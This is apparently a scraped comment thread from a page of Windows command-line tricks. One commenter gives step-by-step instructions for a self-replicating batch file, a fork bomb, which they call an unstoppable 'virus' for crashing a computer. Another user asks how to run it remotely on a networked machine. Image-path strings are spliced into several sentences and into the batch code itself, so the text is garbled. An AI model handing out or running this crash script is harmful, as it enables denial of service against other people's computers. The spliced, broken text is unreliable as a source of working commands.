It has problems, it works in that computer, where you complimed in it
ehhhhhhhhh so long trick i m tired
nversluis3 years ago
Does anyone know a website with more CMD commands to mess with stuff? That would be really helpful.
Broom nversluis3 years ago
Search for "DOS commands" on the web. "CMD" is just the DOS command that summons theterminal these are typed into.
siddharth223 years ago
how to remove this error ???
siddharth223 years ago
how to remove this error ???
siddharth223 years ago
siverstein5 years ago
actually.. the first will eventually.. if not stopped.. crash the computer..

but.. a much better virus that is impsible to stop that will crash the comp at a *much* faster rate, is this.

open note pad.

save as. name.bat

then code it

only needs 3 lines.start name.bat
go to start

its an endless loop that constantly opens more endlessloops.

eventually, your comp will run out room to run all of them and just die >; )
can you do that remotly if you areon the same network andhave that computer info?
1-40 of 112Next »